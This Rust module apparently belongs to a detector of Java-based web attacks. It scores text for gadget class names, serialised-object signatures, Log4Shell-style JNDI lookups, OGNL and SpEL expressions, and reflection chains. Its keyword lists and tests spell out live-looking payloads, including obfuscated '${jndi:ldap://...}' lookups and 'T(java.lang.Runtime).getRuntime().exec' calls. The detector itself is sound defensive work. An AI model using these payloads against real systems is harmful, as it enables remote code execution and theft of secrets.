//! Classes, expressions and serialised objects of Java, and look-ups of its loggers.

use super::Words;
use super::around::{
    after_prose, ends, evidence, first, from, has, in_prose, is_all, last, leads, name, weigh,
};
use crate::list::{List, Prefixes, strip_one_of};
use crate::spot::{is_space, is_word, skip_space};
use crate::{Context, Evidence, Spot};

pub(super) const WORDS: &[Words] = &[
    Words {
        list: "",
        verify: beginning,
    },
    Words {
        list: "java. javax. sun. com.sun. org.apache. com.opensymphony. org.omg. ognl. freemarker. org.springframework. \
               org.mozilla.javascript groovy. bsh. com.mchange. com.alibaba. org.codehaus. com.fasterxml. org.hibernate. \
               org.jboss. org.python. net.sf. com.thoughtworks. ch.qos.logback. com.caucho. com.rometools. jdk.",
        verify: class,
    },
    Words {
        list: "invokertransformer clonetransformer instantiatetransformer instantiatefactory forclosure whileclosure \
               prototypeclonefactory prototypeserializationfactory constanttransformer chainedtransformer templatesimpl \
               jdbcrowsetimpl annotationinvocationhandler badattributevalueexpexception xmldecoder processbuilder \
               unmarshaller base64data tiedmapentry methodclosure filewriter getproperty commonscollections1 ysoserial \
               jndirefforwardingdatasource bshmethod swappabletargetsource xbeaninvocation javassist methodhandles",
        verify: gadget,
    },
    Words {
        list: "ro0ab kztaau cs7qaf aced0005 \\xac\\xed\\x00 %ac%ed%00",
        verify: serialised,
    },
    Words {
        list: "jndi:",
        verify: look_up,
    },
    Words {
        list: "${",
        verify: nested,
    },
    Words {
        list: "%{",
        verify: ognl,
    },
    Words {
        list: "#_memberaccess _memberaccess #context #application[ #session[ #parameters #attr[ #root #rt @ognl. #cmd #req \
               #response #request (#",
        verify: ognl_name,
    },
    Words {
        list: "t(java t(javax t(org t(com t(string) t(class t(system)",
        verify: spel,
    },
    Words {
        list: "getruntime .getclass getclass .forname forname .getclassloader .getdeclaredmethod .getmethod .newinstance \
               defineclass scriptenginemanager getenginebyname .exec loadclass",
        verify: reflection,
    },
    Words {
        list: "class.module.classloader class.classloader classloader.resources class.protectiondomain class['module'] \
               class[module]",
        verify: binding,
    },
    Words {
        list: "$$bcel$$",
        verify: bytes,
    },
];

/// The classes by which code is run, and those that mean nothing by themselves.
const RUN: List = List::new(
    "java.lang.runtime java.lang.processbuilder java.lang.process javax.script.scriptenginemanager \
    java.lang.processimpl java.net.urlclassloader java.lang.classloader javax.management.loading.mlet \
    javax.naming.initialcontext com.sun.rowset.jdbcrowsetimpl java.beans.xmldecoder freemarker.template.utility.execute \
    com.sun.org.apache.xalan.internal.xsltc.trax.templatesimpl",
);
const PLAIN: List = List::new(
    "java.lang.string java.lang.integer java.lang.long java.lang.boolean java.lang.double java.lang.float \
    java.lang.character java.lang.short java.lang.byte java.lang.void java.util.list java.util.map java.util.date \
    java.util.arraylist java.util.hashmap java.util.uuid java.time java.util.set java.math java.lang.enum java.util.linkedhashmap \
    java.util.collections java.util.optional java.sql.timestamp java.sql.date java.lang.throwable",
);

const CLASS: &str = "java class";

fn beginning(spot: &Spot<'_>) -> Option<Evidence> {
    let text = spot.after();
    if spot.context() == Context::FileName {
        spot.work().add(text.len().saturating_mul(2));
        let mut parts = text.split(|byte| *byte == b'.').skip(1);
        let found = parts.any(|part| {
            let part = skip_space(part);
            let end = part.iter().position(|byte| !is_word(*byte));
            const { List::new("jsp jspx jspf jsw jsv jtml war class") }
                .has(first(part, end.unwrap_or(part.len())))
        });
        return found.then_some(Evidence::new("java file", Evidence::SURE));
    }
    let found = text.starts_with(b"\xac\xed\x00") || text.starts_with(b"\xc2\xac\xc3\xad\x00");
    found.then_some(Evidence::new("serialised java object", Evidence::SURE))
}

/// A name with dots at the beginning.
fn dotted(text: &[u8]) -> &[u8] {
    let end = text
        .iter()
        .position(|byte| !is_word(*byte) && !b".$/-".contains(byte));
    first(text, end.unwrap_or(text.len()))
}

/// A class by its whole name.
fn class(spot: &Spot<'_>) -> Option<Evidence> {
    let before = spot.before();
    if before
        .last()
        .is_some_and(|byte| is_word(*byte) || b"./-$".contains(byte))
        && !before.ends_with(b"$$")
    {
        return None;
    }
    let (word, after) = (spot.word(), spot.after());
    let rest = dotted(first(after, 80));
    let behind = from(after, rest.len());
    let segments = || rest.split(|byte| *byte == b'.');
    spot.work()
        .add(rest.len().saturating_mul(6).saturating_add(128));
    let full = spot.word_and(rest.len());
    let runs = RUN.has(full)
        || segments()
            .any(|segment| const { List::new("runtime processbuilder getruntime") }.has(segment))
        || has(rest, b"scriptengine");
    if rest.is_empty() {
        return None;
    }
    // How others name it: in an expression, an object of XML or YAML, a constructor.
    let asked = before.ends_with(b"@")
        || before.ends_with(b"!!")
        || before.ends_with(b"t(")
        || before.ends_with(b"new ");
    let attribute =
        before.ends_with(b"class=\"") || before.ends_with(b"class='") || before.ends_with(b"<");
    let called = behind.starts_with(b"@")
        || has(first(behind, 60), b".exec(")
        || has(first(behind, 60), b"getruntime");
    let failure = [&b"exception"[..], b"error", b"throwable"]
        .into_iter()
        .any(|end| rest.ends_with(end));
    let alone = leads(spot) && ends(behind);
    let given = leads(spot) && behind.starts_with(b"=");
    let score = match (runs, alone || given) {
        (true, _) if asked || called || attribute => Evidence::SURE,
        (true, true) => Evidence::SURE,
        (true, false) => weigh(spot, Evidence::SUSPECT, Evidence::HINT),
        _ if failure => 0,
        (false, true) if PLAIN.has(full) => Evidence::SUSPECT,
        (false, true) if is_watched(word, rest) => Evidence::LIKELY - 5,
        (false, true) => Evidence::HINT,
        (false, false)
            if is_watched(word, rest) && (before.ends_with(b"@") || before.ends_with(b"!!")) =>
        {
            Evidence::LIKELY
        }
        (false, false) if is_watched(word, rest) && attribute => Evidence::LIKELY - 5,
        (false, false) if after_prose(spot) || in_prose(spot) => 0,
        (false, false) => Evidence::HINT / 2,
    };
    evidence(CLASS, score)
}

/// Whether attacks name such classes, and requests hardly do.
fn is_watched(word: &[u8], rest: &[u8]) -> bool {
    let wanted = match word {
        b"java." => {
            "io. lang. beans. nio. net. rmi. util.jar util.zip util.scanner util.prefs security. awt. sql.drivermanager lang"
        }
        b"javax." => {
            "script. naming. management. el. imageio. swing. xml.transform faces. rmi. media."
        }
        b"sun." => "reflect misc. net. rmi. security",
        b"com.sun." => "org.apache rowset jndi. tools rmi jmx. net",
        b"org.apache." => {
            "commons struts xalan xbean myfaces shiro catalina tomcat velocity wicket ofbiz xerces bcel log4j.core"
        }
        b"org.springframework." => {
            "beans context. expression core.io aop jndi cglib transaction.jta"
        }
        b"com.opensymphony."
        | b"org.omg."
        | b"ognl."
        | b"freemarker."
        | b"org.mozilla.javascript"
        | b"bsh." => "",
        b"groovy." => "lang. util. ui",
        _ => return has(rest, b"datasource") || has(rest, b"jndi") || has(rest, b"classloader"),
    };
    wanted.is_empty() || strip_one_of(rest, wanted).is_some()
}

/// Classes that chains of deserialisation are made of.
fn gadget(spot: &Spot<'_>) -> Option<Evidence> {
    const COMMON: List = List::new(
        "getproperty filewriter unmarshaller base64data javassist methodhandles xmldecoder processbuilder",
    );
    spot.work().add(128);
    let before = last(spot.before(), 60);
    let own = before
        .iter()
        .rposition(|byte| !is_word(*byte) && !b".$".contains(byte));
    let path = from(before, own.map_or(0, |own| own.saturating_add(1)));
    let after = dotted(first(spot.after(), 60));
    let whole = own.is_none() && spot.before().len() < 60 && ends(from(spot.after(), after.len()))
        || (leads(spot) && ends(from(spot.after(), after.len())));
    let common = COMMON.has(spot.word());
    let dotted = !path.is_empty() || after.starts_with(b".");
    // Two of them in one name.
    let chained = has(path, b"processbuilder")
        || has(path, b"runtime")
        || has(after, b"runtime")
        || has(after, b"processbuilder");
    let score = match (common, whole) {
        _ if chained => Evidence::LIKELY,
        (false, true) => Evidence::LIKELY - 5,
        (true, true) if dotted => Evidence::SUSPECT,
        (true, _) => Evidence::HINT,
        (false, false) => weigh(spot, Evidence::SUSPECT, Evidence::HINT),
    };
    evidence("java gadget", score)
}

/// The first bytes of a serialised object, in Base64 wherever it begins, or in hexadecimal digits.
fn serialised(spot: &Spot<'_>) -> Option<Evidence> {
    let begins = spot
        .before()
        .last()
        .is_none_or(|byte| !is_word(*byte) && !b"+/".contains(byte));
    let found = match spot.word() {
        b"ro0ab" => spot.as_sent().starts_with(b"rO0AB"),
        b"kztaau" => spot.as_sent().starts_with(b"KztAAU"),
        b"cs7qaf" => spot.as_sent().starts_with(b"Cs7QAF"),
        _ => true,
    };
    (found && begins).then_some(Evidence::new(
        "serialised java object",
        weigh(spot, Evidence::SURE, Evidence::SUSPECT),
    ))
}

const LOOK_UP: &str = "look-up of a logger";

/// `${jndi:ldap://…}`.
fn look_up(spot: &Spot<'_>) -> Option<Evidence> {
    spot.work().add(16);
    let inside = has(last(spot.before(), 24), b"{");
    let scheme = const { Prefixes::new("ldap rmi dns iiop corba nis nds http java: $") }
        .strip(skip_space(first(spot.after(), 16)))
        .is_some();
    let score = match (inside, scheme) {
        (true, _) => weigh(spot, Evidence::SURE, Evidence::LIKELY),
        (false, true) => weigh(spot, Evidence::SURE, Evidence::SUSPECT),
        _ => Evidence::HINT,
    };
    evidence(LOOK_UP, score)
}

/// `${lower:j}`, `${::-j}`, `${env:X:-j}`, `${applicationScope`.
fn nested(spot: &Spot<'_>) -> Option<Evidence> {
    const RUNS: List = List::new("lower upper script base64 base64decoder dns url jndi");
    const READS: List = List::new(
        "env sys java main ctx date map marker bundle k8s docker spring web log4j event sd const file xml properties",
    );
    const TOLD: Prefixes =
        Prefixes::new("version os vm runtime os.name user aws path home host java");
    const OBJECTS: List = List::new(
        "applicationscope sessionscope requestscope pagescope pagecontext initparam facescontext headervalues",
    );
    let text = first(spot.after(), 60);
    spot.work().add(24);
    let inner = text.strip_prefix(b"${").unwrap_or(text);
    let double = inner.len() < text.len();
    let inner = inner.strip_prefix(b"$").unwrap_or(inner);
    let (variable, rest) = name(inner);
    let of_a_name = rest.strip_prefix(b":");
    if inner.starts_with(b"::") || (of_a_name.is_some() && RUNS.has(variable)) {
        return evidence(LOOK_UP, weigh(spot, Evidence::SURE, Evidence::SUSPECT));
    }
    if let Some(rest) = of_a_name.filter(|_| READS.has(variable)) {
        let end = text
            .iter()
            .position(|byte| *byte == b'}')
            .unwrap_or(text.len());
        let score = match double || has(first(text, end), b":-") {
            true => weigh(spot, Evidence::SURE, Evidence::SUSPECT),
            false if TOLD.strip(rest).is_some() => weigh(spot, Evidence::LIKELY, Evidence::HINT),
            false => Evidence::SUSPECT - 5,
        };
        return evidence(LOOK_UP, score);
    }
    let object = rest.starts_with(b".") && OBJECTS.has(variable);
    if object
        || const { Prefixes::new("(# ''.getclass \"\".getclass") }
            .strip(inner)
            .is_some()
    {
        return evidence(
            "java expression",
            weigh(spot, Evidence::LIKELY, Evidence::SUSPECT),
        );
    }
    let double = double && !variable.is_empty();
    evidence(
        LOOK_UP,
        if double {
            weigh(spot, Evidence::SUSPECT, Evidence::HINT)
        } else {
            0
        },
    )
}

const OGNL: &str = "ognl expression";

/// `%{#a=1}`, `%{7*7}`.
fn ognl(spot: &Spot<'_>) -> Option<Evidence> {
    let inside = skip_space(first(spot.after(), 40));
    let sum = inside
        .iter()
        .take_while(|byte| byte.is_ascii_digit() || b" *+-".contains(byte))
        .count();
    let sum = sum > 2
        && from(inside, sum).starts_with(b"}")
        && first(inside, sum).iter().any(|byte| b"*+-".contains(byte));
    let named = const { Prefixes::new("# (# @java @org new (new ''.class ''.getclass") }
        .strip(inside)
        .is_some();
    let found = sum || named;
    found.then_some(Evidence::new(
        OGNL,
        weigh(spot, Evidence::LIKELY, Evidence::SUSPECT),
    ))
}

/// What Struts knows by `#`.
fn ognl_name(spot: &Spot<'_>) -> Option<Evidence> {
    let after = first(spot.after(), 40);
    let score = match spot.word() {
        b"#_memberaccess" | b"_memberaccess" | b"@ognl." => {
            weigh(spot, Evidence::SURE, Evidence::SUSPECT)
        }
        b"(#" => {
            let (variable, rest) = name(after);
            let set = matches!(skip_space(rest), [b'=', next, ..] if !b"=>:".contains(next))
                && !spot.before().ends_with(b"#")
                && (leads(spot) || !in_prose(spot));
            if !variable.is_empty() && set {
                Evidence::LIKELY
            } else {
                0
            }
        }
        b"#context" | b"#application[" | b"#session[" | b"#attr[" => match after.first() {
            Some(b'[' | b'\'' | b'"') => Evidence::LIKELY,
            Some(b'.') => Evidence::SUSPECT,
            _ => Evidence::HINT / 2,
        },
        _ => match skip_space(after).first() {
            Some(b'=' | b'.') => Evidence::SUSPECT,
            _ => 0,
        },
    };
    evidence(OGNL, score)
}

fn spel(spot: &Spot<'_>) -> Option<Evidence> {
    spot.work().add(32);
    let member = spot.word().ends_with(b")") || has(first(spot.after(), 60), b").");
    let begins = spot.before().last().is_none_or(|byte| !is_word(*byte));
    let score = if member {
        weigh(spot, Evidence::LIKELY, Evidence::SUSPECT)
    } else {
        Evidence::HINT
    };
    evidence("java expression", if begins { score } else { 0 })
}

/// Whether another call of that kind follows.
fn goes_on(after: &[u8]) -> bool {
    let mut dots = after.split(|byte| *byte == b'.').skip(1);
    dots.any(|member| {
        const { Prefixes::new("forname( exec( invoke( newinstance( getruntime( getengine") }
            .strip(member)
            .is_some()
    })
}

/// Calls by which classes are reached.
fn reflection(spot: &Spot<'_>) -> Option<Evidence> {
    let after = first(spot.after(), 60);
    let called = skip_space(first(after, 8));
    if !called.starts_with(b"(") {
        return None;
    }
    spot.work().add(160);
    let before = last(spot.before(), 40);
    let runtime = has(before, b"runtime") || has(before, b"java.lang");
    let chained = goes_on(after);
    let text = before.ends_with(b"''")
        || before.ends_with(b"\"\"")
        || before.ends_with(b"'.")
        || before.ends_with(b"{")
        || before.ends_with(b"\"");
    let score = match spot.word() {
        b".exec" if has(before, b"getruntime") => Evidence::SURE,
        b".exec" => 0,
        b"getruntime" if chained => Evidence::SURE,
        b"getruntime" if runtime => Evidence::SUSPECT,
        b"forname" | b".forname" if runtime && chained => Evidence::SURE,
        b".getclass" | b"getclass" if chained => Evidence::SURE,
        b".getclass" if text => Evidence::LIKELY,
        b"scriptenginemanager" if chained || has(after, b"getengine") => Evidence::SURE,
        b"getenginebyname" => Evidence::LIKELY,
        _ => Evidence::HINT,
    };
    let score = if in_prose(spot) {
        score.min(Evidence::SUSPECT)
    } else {
        score
    };
    evidence("java reflection", score)
}

fn binding(spot: &Spot<'_>) -> Option<Evidence> {
    evidence(
        "binding to a class loader",
        weigh(spot, Evidence::SURE, Evidence::SUSPECT),
    )
}

fn bytes(spot: &Spot<'_>) -> Option<Evidence> {
    let more = spot
        .after()
        .first()
        .is_some_and(|byte| is_word(*byte) || is_space(*byte) || *byte == b'$');
    evidence(
        "java byte code",
        if more || is_all(spot) {
            Evidence::SURE
        } else {
            Evidence::LIKELY
        },
    )
}

#[cfg(test)]
mod tests {
    use crate::detector::{found, found_in};
    use crate::{Class, Context};

    fn is_found(text: &str) -> bool {
        found(text).iter().any(|(class, ..)| *class == Class::Java)
    }

    #[test]
    fn attacks_are_found() {
        for attack in [
            "java.lang.Runtime",
            "java.lang.ProcessBuilder",
            "java.io.FileOutputStream",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "@java.lang.Runtime@getRuntime()",
            "<object class=\"java.lang.ProcessBuilder\">",
            "!!javax.script.ScriptEngineManager [x]",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "ProcessBuilder.evil.CloneTransformer",
            "InstantiateTransformer",
            "rO0ABXNyAA",
            "aced0005737200",
            "${jndi:ldap://x.example/a}",
            "${${::-j}${::-n}di:rmi://x}",
            "${${lower:j}ndi:x}",
            "${${env:X:-j}ndi:ldap:x}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "%{(#a=1)}",
            "%{7*7}",
            "#_memberAccess['x']",
            "''.getClass().forName('x')",
            "class.module.classLoader.resources.context",
            "$$BCEL$$l8b",
            "com.sun.rowset.JdbcRowSetImpl",
        ] {
            assert!(is_found(attack), "{attack}: {:?}", found(attack));
        }
    }

    #[test]
    fn classes_that_are_named_are_not() {
        for harmless in [
            "java.lang.NullPointerException",
            "java.lang.NullPointerException: x at java.io.File.read(File.java:1)",
            "import java.io.File;",
            "The class java.lang.Runtime knows how much memory there is.",
            "java.lang.String",
            "org.apache.kafka.clients",
            "java.util.ArrayList",
            "${name}",
            "%{name}",
            "%{IP:client}",
            "runtime",
            "ro0abc",
            "at com.example.Main.main(Main.java:1)",
            "getClass(name)",
        ] {
            assert!(!is_found(harmless), "{harmless}: {:?}", found(harmless));
        }
    }

    #[test]
    fn files_that_are_run_are_found_by_their_names() {
        for attack in ["a.jsp", "a.jspx..", "A.JSP"] {
            assert_eq!(found_in(Context::FileName, attack).len(), 1, "{attack}");
        }
        assert_eq!(found_in(Context::FileName, "a.jpg"), []);
    }
}
